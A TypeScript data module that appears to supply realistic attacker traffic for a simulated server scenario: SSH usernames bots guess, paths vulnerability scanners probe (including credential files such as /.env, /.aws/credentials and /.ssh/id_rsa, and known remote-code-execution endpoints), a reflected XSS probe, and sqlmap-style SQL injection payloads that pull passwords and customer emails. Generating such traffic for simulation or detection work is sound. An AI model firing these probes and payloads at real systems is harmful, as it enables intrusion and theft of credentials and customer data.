// What attackers send, written for this project from what every internet-facing server sees: the account
// names SSH guessers try, the paths vulnerability scanners probe, and SQL injection payloads in the form
// sqlmap encodes them. Kept apart from the traffic code so the lists can grow without touching timing.

/** Names SSH bots try that have no account on the scenario host (so sshd logs "Invalid user"). */
export const GUESSED_SSH_USERS = [
  'test',
  'user',
  'ubuntu',
  'oracle',
  'postgres',
  'git',
  'ftpuser',
  'guest',
  'pi',
  'deploy',
  'support',
  'mysql',
  'hadoop',
  'jenkins',
  'dev',
  'tomcat',
  'ansible',
  'elastic',
  'minecraft',
  'nagios'
] as const

/** Paths a scanner requests that the shop does not have; each answers with 404 unless listed below. */
export const SCANNER_PATHS = [
  '/admin/',
  '/administrator/',
  '/admin.php',
  '/admin/login.php',
  '/wp-login.php',
  '/wp-admin/',
  '/wp-admin/setup-config.php',
  '/wp-content/plugins/',
  '/wp-includes/wlwmanifest.xml',
  '/xmlrpc.php',
  '/phpmyadmin/',
  '/phpMyAdmin/',
  '/pma/',
  '/myadmin/',
  '/mysql/admin/',
  '/.env',
  '/api/.env',
  '/.env.backup',
  '/.git/config',
  '/.git/HEAD',
  '/.svn/entries',
  '/.DS_Store',
  '/.aws/credentials',
  '/config.php',
  '/config.php.bak',
  '/config.json',
  '/configuration.php',
  '/web.config',
  '/backup.zip',
  '/backup.tar.gz',
  '/backup.sql',
  '/db.sql',
  '/dump.sql',
  '/database.sql',
  '/site.tar.gz',
  '/phpinfo.php',
  '/info.php',
  '/test.php',
  '/shell.php',
  '/cmd.php',
  '/cgi-bin/test.cgi',
  '/cgi-bin/printenv',
  '/cgi-bin/php',
  '/console/',
  '/manager/html',
  '/jmx-console/',
  '/actuator/env',
  '/actuator/health',
  '/solr/admin/',
  '/jenkins/login',
  '/login.action',
  '/owa/auth/logon.aspx',
  '/remote/login',
  '/HNAP1/',
  '/boaform/admin/formLogin',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/index.php?s=/Index/think/app/invokefunction',
  '/debug/default/view',
  '/server-info',
  '/install.php',
  '/setup.php',
  '/README.md',
  '/CHANGELOG.txt',
  '/composer.json',
  '/package.json',
  '/id_rsa',
  '/.ssh/id_rsa',
  '/old/',
  '/dev/',
  '/staging/'
] as const

/** Paths Apache itself refuses (dot-files and the status handler), so a scanner sees 403, not 404. */
export const FORBIDDEN_SCANNER_PATHS = ['/.htaccess', '/.htpasswd', '/server-status'] as const

/** Suffixes scanners append to look for editor and backup copies of files that do exist. */
export const BACKUP_SUFFIXES = ['.bak', '.old', '.orig', '~', '.swp', '.save'] as const

/** A reflected XSS probe with a raw quote, which Apache logs escaped as \" inside the request field. */
export const XSS_PROBE_TARGET = '/search?q="><script>alert(document.domain)</script>'

export type SqlInjectionTechnique = 'boolean' | 'union' | 'time' | 'error'

/** Payloads as written by hand; `encodeQueryValue` turns them into what goes on the wire. */
export const SQL_INJECTION_PAYLOADS: readonly { technique: SqlInjectionTechnique; payload: string }[] = [
  { technique: 'boolean', payload: "' OR '1'='1" },
  { technique: 'boolean', payload: "' OR '1'='1' -- -" },
  { technique: 'boolean', payload: ' AND 1=1' },
  { technique: 'boolean', payload: ' AND 1=2' },
  { technique: 'boolean', payload: "') AND 4821=4821 AND ('pXzq'='pXzq" },
  { technique: 'error', payload: "'" },
  { technique: 'error', payload: '"' },
  {
    technique: 'error',
    payload: ' AND EXTRACTVALUE(8310,CONCAT(0x5c,0x716a7a6b71,(SELECT version()),0x716b767a71))'
  },
  { technique: 'union', payload: ' UNION ALL SELECT NULL-- -' },
  { technique: 'union', payload: ' UNION ALL SELECT NULL,NULL-- -' },
  { technique: 'union', payload: ' UNION ALL SELECT NULL,NULL,NULL-- -' },
  { technique: 'union', payload: "' UNION SELECT username,password,NULL FROM users-- -" },
  {
    technique: 'union',
    payload:
      ' UNION ALL SELECT NULL,CONCAT(0x716a7a6b71,IFNULL(CAST(email AS CHAR),0x20),0x716b767a71),NULL FROM shop.customers-- -'
  },
  { technique: 'time', payload: "' AND SLEEP(5)-- -" },
  { technique: 'time', payload: ' AND sleep(5)' },
  { technique: 'time', payload: "') AND (SELECT 6142 FROM (SELECT(SLEEP(5)))kQwe) AND ('aTgc'='aTgc" },
  { technique: 'time', payload: "';SELECT pg_sleep(5)--" }
]

/**
 * Percent-encodes a query value the way sqlmap does: unlike encodeURIComponent it also encodes
 * `'()*!`, so a payload never contains a raw quote or parenthesis.
 */
export function encodeQueryValue(value: string): string {
  return encodeURIComponent(value).replace(
    /['()*!]/g,
    (char) => `%${char.charCodeAt(0).toString(16).toUpperCase()}`
  )
}
